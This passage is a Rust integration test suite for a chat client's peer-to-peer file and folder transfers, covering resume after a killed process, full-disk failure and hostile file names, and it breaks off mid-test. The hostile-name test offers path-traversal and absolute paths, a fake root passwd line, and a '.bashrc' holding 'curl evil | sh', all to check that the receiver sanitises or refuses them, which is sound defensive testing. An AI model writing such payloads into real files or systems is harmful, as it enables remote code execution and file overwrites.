//! Files and folders between real `mpc` processes (issue 16): `mpc send-file` to `mpc listen
//! --accept-files`, through a real `mpd` for the roster and keys, the bytes straight from one client to the
//! other. Multicast on 127.0.0.1, every test on its own group, ports and directories (Net ids 140..=169).
//!
//! - One file arrives identical and verified, nothing of the transfer's work left behind.
//! - A folder of a thousand small files, with subfolders, an empty file and an empty folder, arrives
//!   identical: the whole tree is compared.
//! - A transfer cut half-way resumes, and sends again only what the receiver had not verified: with the
//!   sender killed (kill -9 of `mpc send-file`, then the same command again), and with the receiver killed
//!   (kill -9 of `mpc listen`, a new one on the same directory and state; the running `send-file` offers
//!   it again by itself). The bytes the receiver held (what its part file kept, which the new run skips), the
//!   bytes that had reached it (its `.part` file) and what the sender reports sending twice are checked
//!   against each other and against the protocol's window.
//! - Hostile names end to end: a sender written here with the library ([`Peer`] over std sockets) offers
//!   `../../x`, an absolute path, a 4 KB name, names with control characters, escapes and bidirectional
//!   overrides, a hidden name and a name the receiver has already; nothing lands outside the directory, the
//!   file there is untouched, and what `listen` reports is the sanitised name.
//! - A full disk (a tiny tmpfs in a mount namespace of the test's own; needs root, skipped outside CI
//!   without it): `send-file` exits 1 saying the disk is full, `listen` says so too, what was verified stays.
//! - A chat message between the same two people during a transfer is delivered within its usual bound (2 s)
//!   and shown before the file arrives, and the receiver answers the daemon's heartbeats all along (it never
//!   loses the daemon): the transfer has a connection of its own, and no turn of the loop waits for it.
//!
//! The test binary and the programs are debug builds, where the session's cipher moves about 3 MiB a second:
//! the big files are a few tens of MiB, enough for a transfer to be caught half-way, and every wait has a
//! deadline well above what it takes there (the whole file runs in about 45 s on two cores).

mod common;
mod roster_harness;

use std::collections::{BTreeMap, HashMap};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use multiproto::identity::Identity;
use multiproto::io::incoming::Incoming;
use multiproto::nick::Nick;
use multiproto::peer::{Action, Config, ConnId, Disk, FileEvent, Peer, PeerEvent, Target, XferId};
use multiproto::transfer::MAX_WINDOW;
use multiproto::transfer::frame::{EntryKind, FailCode, TransferId};
use multiproto::transfer::send::{Offered, SendEvent};
use nix::sys::signal::Signal;
use serde_json::Value;

use common::{Guard, private_tmpfs, run_with_limit, skip_unless};
use roster_harness::*;

const MIB: u64 = 1 << 20;

/// Bytes that differ at every offset (so a piece in the wrong place shows).
fn pattern(n: usize, seed: u8) -> Vec<u8> {
    (0..n)
        .map(|i| (i as u8).wrapping_mul(31).wrapping_add(seed) ^ (i >> 13) as u8)
        .collect()
}

/// `n` pseudo-random bytes named by `seed`: BLAKE3's output stream, which is quick to make even in a debug
/// build (tens of MiB in well under a second) and never repeats, so a piece in the wrong place shows.
fn noise(n: u64, seed: &str) -> Vec<u8> {
    let mut v = vec![0; n as usize];
    blake3::Hasher::new()
        .update(seed.as_bytes())
        .finalize_xof()
        .fill(&mut v);
    v
}

/// Writes [`noise`] of `size` bytes to `path` a piece at a time (a file of hundreds of MiB never in memory
/// whole); returns its hash.
fn noise_file(path: &Path, size: u64, seed: &str) -> blake3::Hash {
    let mut stream = blake3::Hasher::new().update(seed.as_bytes()).finalize_xof();
    let mut file = std::fs::File::create(path).unwrap();
    let mut hash = blake3::Hasher::new();
    let mut buf = vec![0; 8 << 20];
    let mut left = size;
    while left > 0 {
        let piece = &mut buf[..left.min(8 << 20) as usize];
        stream.fill(piece);
        hash.update(piece);
        file.write_all(piece).unwrap();
        left -= piece.len() as u64;
    }
    hash.finalize()
}

/// A file's BLAKE3, read in pieces.
fn hash_file(path: &Path) -> blake3::Hash {
    let mut hash = blake3::Hasher::new();
    hash.update_reader(std::fs::File::open(path).unwrap())
        .unwrap();
    hash.finalize()
}

fn online(net: &Net, nick: &str) {
    assert!(
        common::wait_until(Duration::from_secs(15), || list(net)
            .iter()
            .any(|e| e["nick"] == nick && e["status"] == "online")),
        "{nick} never online"
    );
}

/// bob, online, accepting every file into `inbox` (`listen --accept-files`).
fn accepting_into(net: &Net, inbox: &Path) -> Mpc {
    let bob = Mpc::listen_with(
        net,
        "bob",
        &[],
        &["--accept-files", inbox.to_str().unwrap()],
    );
    bob.wait_registered();
    online(net, "bob");
    bob
}

/// Removes a test's directory when the test passed (its big files would pile up in the temporary
/// directory); kept after a failure, to look at. Declared before the processes, so dropped after them.
struct Tidy(PathBuf);

impl Drop for Tidy {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
}

/// `mpc --nick NICK ... send-file TO PATH [extra]`, in NICK's state directory.
fn send_file_cmd(net: &Net, nick: &str, to: &str, path: &Path, extra: &[&str]) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_mpc"));
    c.args(["--nick", nick])
        .args(net.client_args(nick))
        .args(["send-file", to])
        .arg(path)
        .args(extra);
    c
}

/// Runs `mpc send-file` to completion (within `limit`).
fn send_file(net: &Net, nick: &str, to: &str, path: &Path, limit: Duration) -> Output {
    run_with_limit(&mut send_file_cmd(net, nick, to, path, &[]), limit, b"")
}

fn text(out: &[u8]) -> String {
    String::from_utf8_lossy(out).into_owned()
}

/// The number that follows `key` in `text` (`"sent again after a cut: 12 bytes"`, key `"cut: "`).
fn number_after(text: &str, key: &str) -> Option<u64> {
    let at = text.find(key)? + key.len();
    let digits: String = text[at..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    digits.parse().ok()
}

/// What `send-file` said each time the receiver accepted: the bytes it held already (not sent), exact.
fn accepts(stderr: &str) -> Vec<u64> {
    stderr
        .lines()
        .filter(|l| l.starts_with("mpc: accepted"))
        .map(|l| number_after(l, "(").unwrap_or(0))
        .collect()
}

/// Whether `v` is listen's event `event` about transfer `id`.
fn about(v: &Value, event: &str, id: &str) -> bool {
    v["event"] == event && v["id"] == id
}

/// The most bytes a `file_progress` of transfer `id` reported: what the receiver had verified (in its part
/// file, the hash so far kept) by then.
fn verified(events: &[Value], id: &str) -> u64 {
    events
        .iter()
        .filter(|v| about(v, "file_progress", id))
        .filter_map(|v| v["bytes"].as_u64())
        .max()
        .unwrap_or(0)
}

/// Every file and folder under `root`, by path relative to it: a file's bytes, or `None` for a folder.
/// Panics on anything else (a symbolic link, a device): nothing received is ever one.
fn tree(root: &Path) -> BTreeMap<PathBuf, Option<Vec<u8>>> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, Option<Vec<u8>>>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let m = std::fs::symlink_metadata(&p).unwrap();
            let rel = p.strip_prefix(root).unwrap().to_path_buf();
            if m.is_dir() {
                out.insert(rel, None);
                walk(root, &p, out);
            } else {
                assert!(
                    m.is_file(),
                    "{} is neither a file nor a folder",
                    p.display()
                );
                out.insert(rel, Some(std::fs::read(&p).unwrap()));
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// The names in `dir`, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn a_file_sent_from_the_command_line_arrives_identical_and_verified() {
    let net = Net::new("files-one", 140);
    let _tidy = Tidy(net.dir.clone());
    let _mpd = Mpd::start(&net, &[]);
    let inbox = net.dir.join("inbox");
    let bob = accepting_into(&net, &inbox);
    let src = net.dir.join("report.bin");
    let bytes = pattern(5 << 20, 7);
    std::fs::write(&src, &bytes).unwrap();
    let out = mpc(
        &net,
        &["--nick", "alice", "send-file", "bob", src.to_str().unwrap()],
    );
    assert!(
        out.status.success(),
        "send-file failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("verified"));
    let (offered, _) = bob
        .wait_for(Duration::from_secs(5), |v| v["event"] == "file_offered")
        .expect("no offer");
    assert_eq!(offered["name"], "report.bin");
    assert_eq!(offered["size"], 5 << 20);
    assert_eq!(offered["from"], "alice");
    assert_eq!(offered["accepted"], true);
    let (got, _) = bob
        .wait_for(Duration::from_secs(5), |v| v["event"] == "file_received")
        .expect("not received");
    let path = got["path"].as_str().unwrap();
    assert_eq!(Path::new(path), inbox.join("report.bin"));
    assert_eq!(std::fs::read(path).unwrap(), bytes);
    assert_eq!(got["size"], 5 << 20);
    assert_eq!(got["hash"], blake3::hash(&bytes).to_hex().as_str());
    // Nothing of the transfer's work is left behind.
    let left: Vec<_> = std::fs::read_dir(&inbox)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left, vec![std::ffi::OsString::from("report.bin")]);
}

#[test]
fn a_folder_of_a_thousand_small_files_arrives_identical() {
    let net = Net::new("files-folder", 141);
    let _tidy = Tidy(net.dir.clone());
    let _mpd = Mpd::start(&net, &[]);
    let inbox = net.dir.join("inbox");
    let bob = accepting_into(&net, &inbox);
    // A thousand files of 0 to 8 KiB: most at the top, some one and two folders down (one folder name not
    // ASCII), plus an empty file and an empty folder, which carry no bytes and must arrive all the same.
    let src = net.dir.join("album");
    let deep = src.join("raw").join("2026 — day one");
    std::fs::create_dir_all(&deep).unwrap();
    for i in 0..1000u64 {
        let dir = match i % 10 {
            0..=6 => src.clone(),
            7 | 8 => src.join("raw"),
            _ => deep.clone(),
        };
        let name = format!("img-{i:04}.dat");
        std::fs::write(dir.join(name), noise(i * 37 % 8193, &format!("f{i}"))).unwrap();
    }
    std::fs::write(src.join("raw").join("empty"), b"").unwrap();
    std::fs::create_dir(src.join("nothing here")).unwrap();
    let sent = tree(&src);
    let bytes: u64 = sent.values().flatten().map(|b| b.len() as u64).sum();

    let out = send_file(&net, "alice", "bob", &src, Duration::from_secs(60));
    assert!(
        out.status.success(),
        "send-file failed: {}",
        text(&out.stderr)
    );
    let (offered, _) = bob
        .wait_for(Duration::from_secs(5), |v| v["event"] == "file_offered")
        .expect("no offer");
    assert_eq!(offered["name"], "album");
    // Every file and folder, the folder itself included.
    assert_eq!(offered["files"], sent.len() as u64 + 1);
    assert_eq!(offered["size"], bytes);
    let (got, _) = bob
        .wait_for(Duration::from_secs(10), |v| v["event"] == "file_received")
        .expect("not received");
    assert_eq!(
        Path::new(got["path"].as_str().unwrap()),
        inbox.join("album")
    );
    assert_eq!(got["size"], bytes);
    // A folder has no one hash: each of its files was checked.
    assert_eq!(got["hash"], Value::Null);
    let received = tree(&inbox.join("album"));
    assert_eq!(received.len(), sent.len(), "not every entry arrived");
    for (path, content) in &sent {
        assert!(
            received.get(path) == Some(content),
            "{} differs",
            path.display()
        );
    }
    // The work directory is gone with the transfer.
    assert_eq!(names(&inbox), ["album"]);
}

/// A big file for alice to send to bob, who listens with `--accept-files inbox`: its hash, and where the
/// transfer's work and its result land.
struct Big {
    src: PathBuf,
    hash: blake3::Hash,
    inbox: PathBuf,
}

impl Big {
    fn new(net: &Net, size: u64) -> Big {
        let src = net.dir.join("big.bin");
        let hash = noise_file(&src, size, "big");
        Big {
            src,
            hash,
            inbox: net.dir.join("inbox"),
        }
    }

    fn listen(&self, net: &Net) -> Mpc {
        Mpc::listen_with(
            net,
            "bob",
            &[],
            &["--accept-files", self.inbox.to_str().unwrap()],
        )
    }

    /// The `.part` file transfer `id` grows in bob's directory.
    fn part(&self, id: &str) -> PathBuf {
        self.inbox
            .join(format!(".mpc-incoming-{id}"))
            .join("0.part")
    }

    /// Checks the file arrived whole (bob's `file_received`, and the file itself) and nothing of the work
    /// is left.
    fn arrived(&self, bob: &Mpc, id: &str) {
        let (got, _) = bob
            .wait_for(Duration::from_secs(10), |v| about(v, "file_received", id))
            .expect("not received");
        let path = Path::new(got["path"].as_str().unwrap());
        assert_eq!(path, self.inbox.join("big.bin"));
        assert_eq!(got["size"], BIG);
        assert_eq!(got["hash"], self.hash.to_hex().as_str());
        assert_eq!(std::fs::metadata(path).unwrap().len(), BIG);
        assert_eq!(hash_file(path), self.hash, "the file received differs");
        assert_eq!(names(&self.inbox), ["big.bin"]);
    }
}

/// 320 MiB: about four seconds in a debug build (the session's cipher is assembly even there, some 80 MiB/s
/// on loopback on a 2-core VM), where 30 % of it is verified after a second or so and the receiver reports
/// progress every half second, so the kill comes well before the end even on a machine a few times faster.
/// Whether the resume skipped what was verified is checked against exact figures (what bob reported
/// verified, what the sender was told he held), so no particular size is needed for that.
const BIG: u64 = 320 * MIB;

/// How far a transfer of [`BIG`] bytes is let run before one side is killed.
const THIRD: u64 = BIG * 3 / 10;

/// alice's `send-file` of `big` to bob, started (as `name`) and watched until bob has verified 30 % of it:
/// the running send, and the transfer's id.
fn send_until_a_third(net: &Net, big: &Big, bob: &Mpc, name: &str) -> (Guard, String) {
    let send = Guard::spawn(
        name,
        &mut send_file_cmd(net, "alice", "bob", &big.src, &[]),
        &net.dir,
    );
    let (offered, _) = bob
        .wait_for(Duration::from_secs(20), |v| v["event"] == "file_offered")
        .expect("no offer");
    let id = offered["id"].as_str().unwrap().to_string();
    bob.wait_for(Duration::from_secs(30), |v| {
        about(v, "file_progress", &id) && v["bytes"].as_u64() >= Some(THIRD)
    })
    .unwrap_or_else(|| panic!("not 30 % within 30 s: {:?}", bob.events()));
    (send, id)
}

#[test]
fn a_send_killed_half_way_resumes_and_sends_again_only_what_was_not_verified() {
    let net = Net::new("files-kill-sender", 142);
    let _tidy = Tidy(net.dir.clone());
    let _mpd = Mpd::start(&net, &[]);
    let big = Big::new(&net, BIG);
    let bob = big.listen(&net);
    bob.wait_registered();
    online(&net, "bob");
    let (mut first, id) = send_until_a_third(&net, &big, &bob, "send-1");
    first.signal(Signal::SIGKILL);
    assert!(first.wait(Duration::from_secs(5)).is_some(), "not killed");
    // Bob sees the connection go; then everything that reached him is in the part file, and everything he
    // reported verified was in it first.
    bob.wait_for(Duration::from_secs(10), |v| {
        about(v, "file_failed", &id) && v["code"] == "cut"
    })
    .expect("the receiver never saw the cut");
    let verified_before = verified(&bob.events(), &id);
    let reached = std::fs::metadata(big.part(&id)).unwrap().len();
    assert!(verified_before >= THIRD && reached >= verified_before);

    // The same command again: the same transfer, resumed.
    let out = send_file(&net, "alice", "bob", &big.src, Duration::from_secs(90));
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(
        out.status.success(),
        "the second send-file failed: {stderr}"
    );
    let offers: Vec<Value> = bob
        .events()
        .into_iter()
        .filter(|v| v["event"] == "file_offered")
        .collect();
    assert_eq!(offers.len(), 2);
    assert_eq!(
        offers[1]["id"],
        id.as_str(),
        "offered again under another id"
    );
    let held = number_after(&stdout, "bob had ").expect(&stdout);
    assert_eq!(accepts(&stderr), [held]);
    // Nothing bob had verified was sent again; what was sent again is what had reached him unverified,
    // within the window.
    assert!(
        held >= verified_before,
        "bob had verified {verified_before} bytes, but only {held} were skipped"
    );
    assert!(
        held <= reached,
        "{held} skipped, only {reached} had arrived"
    );
    assert!(
        reached - held <= MAX_WINDOW,
        "{} bytes sent twice",
        reached - held
    );
    // This run's own connection was never cut.
    assert_eq!(number_after(&stdout, "after a cut: "), Some(0), "{stdout}");
    big.arrived(&bob, &id);
}

#[test]
fn a_receiver_killed_half_way_comes_back_and_the_running_send_finishes() {
    let net = Net::new("files-kill-receiver", 143);
    let _tidy = Tidy(net.dir.clone());
    let _mpd = Mpd::start(&net, &[]);
    let big = Big::new(&net, BIG);
    let mut bob = big.listen(&net);
    bob.wait_registered();
    online(&net, "bob");
    let (mut send, id) = send_until_a_third(&net, &big, &bob, "send");
    bob.kill9();
    // What the killed receiver reported verified was in its part file, and so is everything that reached it
    // (a killed process's writes stay in the page cache).
    let verified_before = verified(&bob.events(), &id);
    let reached = std::fs::metadata(big.part(&id)).unwrap().len();
    assert!(verified_before >= THIRD && reached >= verified_before);

    // A new listen on the same directory and state; the send-file still running offers it again.
    let bob = big.listen(&net);
    bob.wait_registered();
    let st = send.wait(Duration::from_secs(90));
    let stdout = std::fs::read_to_string(net.dir.join("send.out")).unwrap();
    let stderr = std::fs::read_to_string(net.dir.join("send.err")).unwrap();
    assert!(
        st.is_some_and(|s| s.success()),
        "send-file did not finish: {st:?}\n{stderr}"
    );
    let (offered, _) = bob
        .wait_for(Duration::from_secs(5), |v| v["event"] == "file_offered")
        .expect("not offered again");
    assert_eq!(offered["id"], id.as_str(), "offered again under another id");
    // The first accept held nothing; the last one (the new receiver's) held at least what the first
    // receiver had verified, and no more than had reached it.
    let accepted = accepts(&stderr);
    assert!(accepted.len() >= 2, "{stderr}");
    assert_eq!(accepted[0], 0);
    let held = *accepted.last().unwrap();
    assert!(
        held >= verified_before,
        "bob had verified {verified_before} bytes, but only {held} were skipped"
    );
    assert!(
        held <= reached,
        "{held} skipped, only {reached} had arrived"
    );
    // Sent twice: at least what had reached bob beyond what he kept, and never more than the window.
    let resent = number_after(&stdout, "after a cut: ").expect(&stdout);
    assert!(
        resent >= reached - held && resent <= MAX_WINDOW,
        "{resent} bytes sent twice; {} had reached bob beyond what he kept",
        reached - held
    );
    big.arrived(&bob, &id);
}

/// A transfer's entries as a test offers them: the path sent, and the bytes (`None`: a folder).
type Entries = Vec<(String, Option<Vec<u8>>)>;

/// A sender written in the test with the library: a [`Peer`] driven over std sockets, offering whatever
/// names and paths the test gives, which `mpc send-file` (walking real files) never would. It connects to
/// an address, so its session is an XX handshake with whoever listens there, and it claims the nickname
/// `mallory`, which the roster does not know.
struct Hostile {
    peer: Peer,
    socks: HashMap<ConnId, TcpStream>,
    /// Each transfer's entries' bytes, by index (`None`: a folder).
    files: HashMap<XferId, Vec<Option<Vec<u8>>>>,
    start: std::time::Instant,
}

impl Hostile {
    fn new() -> Hostile {
        let me = Nick::new("mallory").unwrap();
        Hostile {
            peer: Peer::new(Config::new(me, 0x6d61, Identity::from_secret([0x66; 32]))),
            socks: HashMap::new(),
            files: HashMap::new(),
            start: std::time::Instant::now(),
        }
    }

    fn now(&self) -> multiproto::time::Instant {
        multiproto::time::Instant::from_micros(self.start.elapsed().as_micros() as u64)
    }

    /// Offers `entries` (path as sent, and bytes or `None` for a folder) under `name` to `to` as transfer
    /// `id`; runs until the transfer ends (within 20 s) and returns how: done, or failed.
    fn send(&mut self, to: SocketAddr, id: TransferId, name: &str, entries: Entries) -> SendEvent {
        let offered = entries
            .iter()
            .map(|(path, bytes)| Offered {
                kind: match bytes {
                    Some(b) => EntryKind::File {
                        size: b.len() as u64,
                        hash: *blake3::hash(b).as_bytes(),
                    },
                    None => EntryKind::Dir,
                },
                path: path.clone(),
            })
            .collect();
        let now = self.now();
        let x = self
            .peer
            .send_files(now, Target::Addr(to), id, name, offered)
            .expect("our own side refused the offer");
        self.files
            .insert(x, entries.into_iter().map(|(_, b)| b).collect());
        let end = std::time::Instant::now() + Duration::from_secs(20);
        loop {
            self.step();
            while let Some(ev) = self.peer.poll_event() {
                if let PeerEvent::File {
                    xfer,
                    event: FileEvent::Send(e @ (SendEvent::Done | SendEvent::Failed(_))),
                    ..
                } = ev
                    && xfer == x
                {
                    return e;
                }
            }
            assert!(
                std::time::Instant::now() < end,
                "transfer {id} neither done nor failed within 20 s"
            );
            std::thread::sleep(Duration::from_millis(1));
        }
    }

    /// One turn: the peer's timers and actions, reads served from memory, every socket written and read
    /// (nonblocking) as far as it goes.
    fn step(&mut self) {
        let now = self.now();
        if self.peer.poll_timeout().is_some_and(|t| t <= now) {
            self.peer.handle_timeout(now);
        }
        while let Some(a) = self.peer.poll_action() {
            match a {
                Action::Connect { conn, addr } => {
                    match TcpStream::connect_timeout(&addr, Duration::from_secs(2)) {
                        Ok(s) => {
                            s.set_nonblocking(true).unwrap();
                            self.socks.insert(conn, s);
                            self.peer.connected(now, conn);
                        }
                        Err(_) => self.peer.closed(now, conn),
                    }
                }
                // Every connection's output is written below.
                Action::Write(_) => {}
                Action::Close(c) => {
                    if let Some(s) = self.socks.remove(&c) {
                        let _ = s.shutdown(std::net::Shutdown::Both);
                    }
                }
            }
        }
        while let Some(x) = self.peer.poll_disk() {
            let files = &self.files;
            self.peer.with_disk(now, x, |d| {
                if let Disk::Send(s) = d
                    && let Some(r) = s.poll_read()
                {
                    let bytes = files[&x][r.index as usize].as_ref().unwrap();
                    let at = r.offset as usize;
                    s.handle_read(r.index, r.offset, bytes[at..at + r.len].to_vec());
                }
            });
        }
        let wall = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis() as u64;
        let mut buf = vec![0; 64 * 1024];
        let ids: Vec<ConnId> = self.socks.keys().copied().collect();
        for id in ids {
            loop {
                let out = self.peer.output(id);
                let Some(s) = self.socks.get_mut(&id) else {
                    break;
                };
                if out.is_empty() {
                    break;
                }
                match s.write(out) {
                    Ok(n) => self.peer.wrote(now, id, n),
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                    Err(_) => {
                        self.socks.remove(&id);
                        self.peer.closed(now, id);
                    }
                }
            }
            while let Some(s) = self.socks.get_mut(&id) {
                match s.read(&mut buf) {
                    Ok(0) => {
                        self.socks.remove(&id);
                        self.peer.closed(now, id);
                    }
                    Ok(n) => self.peer.handle_data(now, wall, id, &buf[..n]),
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                    Err(_) => {
                        self.socks.remove(&id);
                        self.peer.closed(now, id);
                    }
                }
            }
        }
    }
}

#[test]
fn hostile_names_land_inside_the_directory_sanitised_and_overwrite_nothing() {
    let net = Net::new("files-hostile", 144);
    let _tidy = Tidy(net.dir.clone());
    let _mpd = Mpd::start(&net, &[]);
    // Two levels down, so that `../../x` would land in the test's own directory, where it is looked for.
    let sandbox = net.dir.join("sandbox");
    let inbox = sandbox.join("inbox");
    std::fs::create_dir_all(&inbox).unwrap();
    let mine = b"the receiver's own report".to_vec();
    std::fs::write(inbox.join("report.txt"), &mine).unwrap();
    // Where an absolute path points: the test's own directory, never a real system file.
    let outside = net.dir.join("outside");
    std::fs::create_dir(&outside).unwrap();
    let absolute = outside.join("passwd").display().to_string();
    let bob = Mpc::listen_with(
        &net,
        "bob",
        &[],
        &["--accept-files", inbox.to_str().unwrap()],
    );
    bob.wait_registered();
    let port = bob
        .wait_for(Duration::from_secs(1), |v| v["event"] == "registered")
        .unwrap()
        .0["chat_port"]
        .as_u64()
        .unwrap() as u16;
    let to = SocketAddr::from(([127, 0, 0, 1], port));

    let long = format!("{}.txt", "L".repeat(4090));
    let controls = "red\u{1b}[31m\u{7}\u{202e}fdp.exe\u{200b}\r\n.txt";
    let file = |path: &str, bytes: &[u8]| vec![(path.to_string(), Some(bytes.to_vec()))];
    // (name offered, entries, the name the offer shows, where it lands in the inbox or None if refused)
    let cases: Vec<(String, Entries, String, Option<String>)> = vec![
        (
            "../../x".into(),
            file("../../x", b"escaped"),
            "_._.._x".into(),
            None,
        ),
        (
            absolute.clone(),
            file(&absolute, b"root::0:0:root:/root:/bin/sh"),
            absolute.replace('/', "_"),
            None,
        ),
        (
            "pics".into(),
            vec![
                ("pics".into(), None),
                ("pics/../../../escape.txt".into(), Some(b"escaped".to_vec())),
            ],
            "pics".into(),
            None,
        ),
        (
            long.clone(),
            file(&long, b"a long name"),
            format!("{}.txt", "L".repeat(196)),
            Some(format!("{}.txt", "L".repeat(196))),
        ),
        (
            controls.into(),
            file(controls, b"escapes"),
            "red_[31m__fdp.exe___.txt".into(),
            Some("red_[31m__fdp.exe___.txt".into()),
        ),
        (
            ".bashrc".into(),
            file(".bashrc", b"curl evil | sh"),
            "_bashrc".into(),
            Some("_bashrc".into()),
        ),
        (
            "report.txt".into(),
            file("report.txt", b"someone else's report"),
            "report.txt".into(),
            Some("report (1).txt".into()),
        ),
    ];
    let mut mallory = Hostile::new();
    for (n, (name, entries, shown, lands)) in cases.into_iter().enumerate() {
        let id = TransferId([n as u8 + 1; 16]);
        let hex = id.to_string();
        let content = entries.last().unwrap().1.clone().unwrap();
        let how = mallory.send(to, id, &name, entries);
        let (offered, _) = bob
            .wait_for(Duration::from_secs(5), |v| about(v, "file_offered", &hex))
            .unwrap_or_else(|| panic!("{name:?} not offered"));
        assert_eq!(offered["name"], shown.as_str(), "offered as {name:?}");
        let shown_name = offered["name"].as_str().unwrap();
        assert!(
            !shown_name.contains('/')
                && !shown_name.starts_with('.')
                && !shown_name.chars().any(|c| c.is_control())
                && shown_name.len() <= 200,
            "{shown_name:?}"
        );
        // Nobody the roster knows: no name vouched for.
        assert_eq!(offered["from"], Value::Null);
        assert_eq!(offered["claims"], "mallory");
        match lands {
            None => {
                assert!(
                    matches!(&how, SendEvent::Failed(f) if f.by_peer && f.code == FailCode::NameRefused),
                    "{name:?}: {how:?}"
                );
                bob.wait_for(Duration::from_secs(5), |v| {
                    about(v, "file_failed", &hex) && v["code"] == "name refused"
                })
                .unwrap_or_else(|| panic!("{name:?}: no failure said: {:?}", bob.events()));
            }
            Some(lands) => {
                assert_eq!(how, SendEvent::Done, "{name:?}");
                let (got, _) = bob
                    .wait_for(Duration::from_secs(5), |v| about(v, "file_received", &hex))
                    .unwrap_or_else(|| panic!("{name:?} not received"));
                let path = Path::new(got["path"].as_str().unwrap());
                assert_eq!(path, inbox.join(&lands), "{name:?}");
                assert_eq!(std::fs::read(path).unwrap(), content);
            }
        }
    }
    // Nothing anywhere but in the inbox: not where `..` pointed, not at the absolute path.
    for p in [
        net.dir.join("x"),
        sandbox.join("x"),
        net.dir.join("escape.txt"),
        sandbox.join("escape.txt"),
    ] {
        assert!(!p.exists(), "{} was created", p.display());
    }
    assert_eq!(names(&outside), Vec::<String>::new());
    assert_eq!(names(&sandbox), ["inbox"]);
    // The receiver's own file is untouched; in the inbox, only what was accepted (and a refused folder's
    // top, made before its bad entry came, if it was), and work directories of the refused transfers (what a
    // transfer held is kept for a resume; these hold nothing).
    assert_eq!(std::fs::read(inbox.join("report.txt")).unwrap(), mine);
    let mut visible: Vec<String> = names(&inbox)
        .into_iter()
        .filter(|n| !n.starts_with(".mpc-incoming-"))
        .collect();
    if visible.contains(&"pics".to_string()) {
        assert_eq!(names(&inbox.join("pics")), Vec::<String>::new());
        visible.retain(|n| n != "pics");
    }
    let mut want = vec![
        "L".repeat(196) + ".txt",
        "_bashrc".into(),
        "red_[31m__fdp.exe___.txt".into(),
        "report (1).txt".into(),
        "report.txt".into(),
    ];
    want.sort();
    assert_eq!(visible, want);
    // Below the top, nothing but the work directories' contents (they are empty here: a refused entry
    // never got as far as a part).
    for path in tree(&inbox).into_keys() {
        let top = path
            .components()
            .next()
            .unwrap()
            .as_os_str()
            .to_string_lossy();
        assert!(
            path.components().count() == 1 || top.starts_with(".mpc-incoming-"),
            "{} left in the inbox",
            path.display()
        );
    }
}

/// Unmounts (lazily) the test's tmpfs when dropped, after the processes using it are gone.
struct Unmount(PathBuf);

impl Drop for Unmount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_fails_the_send_with_the_reason_and_keeps_what_was_verified() {
    let net = Net::new("files-full", 145);
    let _tidy = Tidy(net.dir.clone());
    let inbox = net.dir.join("inbox");
    // 3 MiB of room for an 8 MiB file. Everything started from this thread from now on (the daemon, both
    // clients) sees the tmpfs; nothing else does.
    skip_unless!(private_tmpfs(&inbox, "3m"));
    let _unmount = Unmount(inbox.clone());
    let _mpd = Mpd::start(&net, &[]);
    let bob = Mpc::listen_with(
        &net,
        "bob",
        &[],
        &["--accept-files", inbox.to_str().unwrap()],
    );
    bob.wait_registered();
    online(&net, "bob");
    let src = net.dir.join("video.bin");
    let bytes = noise(8 * MIB, "video");
    std::fs::write(&src, &bytes).unwrap();
    let out = send_file(&net, "alice", "bob", &src, Duration::from_secs(60));
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("the disk is full"), "{stderr}");
    let (offered, _) = bob
        .wait_for(Duration::from_secs(5), |v| v["event"] == "file_offered")
        .expect("no offer");
    let id = offered["id"].as_str().unwrap().to_string();
    let (failed, _) = bob
        .wait_for(Duration::from_secs(5), |v| about(v, "file_failed", &id))
        .expect("the receiver said nothing");
    assert_eq!(failed["code"], "disk full");
    assert!(
        failed["reason"].as_str().unwrap().contains("disk is full"),
        "{failed}"
    );
    // What was verified stays, whole: the store's resume point (what the next offer of the same file goes
    // on from) covers at least what bob reported verified, and the part holds those bytes as sent.
    let mut key = [0u8; 16];
    for (i, k) in key.iter_mut().enumerate() {
        *k = u8::from_str_radix(&id[2 * i..2 * i + 2], 16).unwrap();
    }
    let store = Incoming::open(&inbox, &key).unwrap();
    let (complete, partial) = store.resume();
    assert_eq!(complete, 0);
    let (index, kept) = partial.expect("nothing was kept");
    assert_eq!(index, 0);
    assert!(
        kept >= verified(&bob.events(), &id) && kept >= MIB,
        "only {kept} bytes kept"
    );
    let part = std::fs::read(inbox.join(format!(".mpc-incoming-{id}")).join("0.part")).unwrap();
    assert!(part.len() as u64 >= kept);
    assert!(part[..kept as usize] == bytes[..kept as usize]);
    assert!(!inbox.join("video.bin").exists());
}

#[test]
fn a_chat_message_during_a_transfer_is_not_held_up_by_it() {
    let net = Net::new("files-chat", 146);
    let _tidy = Tidy(net.dir.clone());
    let mpd = Mpd::start(&net, &[]);
    let inbox = net.dir.join("inbox");
    let bob = accepting_into(&net, &inbox);
    // Far more than arrives while the test looks (some 80 MiB/s in a debug build; the test stops it once it
    // has seen what it needs). Sparse: its content does not matter here, and it costs no disk to make.
    let src = net.dir.join("big.bin");
    std::fs::File::create(&src)
        .unwrap()
        .set_len(2 << 30)
        .unwrap();
    let _send = Guard::spawn(
        "send",
        &mut send_file_cmd(&net, "alice", "bob", &src, &[]),
        &net.dir,
    );
    let (offered, _) = bob
